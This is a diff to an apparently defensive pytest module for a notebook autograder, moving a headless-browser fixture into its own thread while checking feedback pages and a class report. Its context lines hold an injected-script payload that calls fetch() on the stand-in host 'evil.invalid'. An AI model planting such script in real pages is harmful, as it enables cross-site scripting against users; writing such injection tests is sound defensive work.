@@ -12,6 +12,7 @@ import shutil
 import subprocess
 import sys
 import unicodedata
+from concurrent.futures import ThreadPoolExecutor
 
 import nbformat
 import numpy as np
@@ -23,6 +24,7 @@ from benchmarks.classroom import hand_in, submission
 from tests.autograder.attacks.conftest import WRONG
 from tests.autograder.conftest import TOPIC, code_cell
 from tests.autograder.test_grade import nbgrader
+from tools.chromium import headless_chromium
 
 EVIL = "http://evil.invalid"
 RUN = f"window.pwned=1;fetch('{EVIL}/fetched');alert(1)"
@@ -167,16 +169,21 @@ def report(course, student):
 
 
 @pytest.fixture(scope="module")
-def visits(shown, browser):
+def visits(shown, needs_chromium):
     """What a browser did with the feedback pages and the class report."""
     course, written = shown
     pages = {s: course / "feedback" / s / TOPIC / f"{TOPIC}.html" for s in STUDENTS}
     pages["class report"] = next(p for p in written.values() if p.suffix == ".html")
-    seen = {}
-    for name, path in pages.items():
-        with browser.new_context() as context:
-            seen[name] = visit(context, path)
-    return seen
+
+    def look():
+        with headless_chromium() as browser:
+            for name, path in pages.items():
+                with browser.new_context() as context:
+                    yield name, visit(context, path)
+
+    # Playwright keeps the thread in which it runs from running anything asynchronous.
+    with ThreadPoolExecutor(1) as thread:
+        return thread.submit(lambda: dict(look())).result()
 
 
 def visit(context, path):
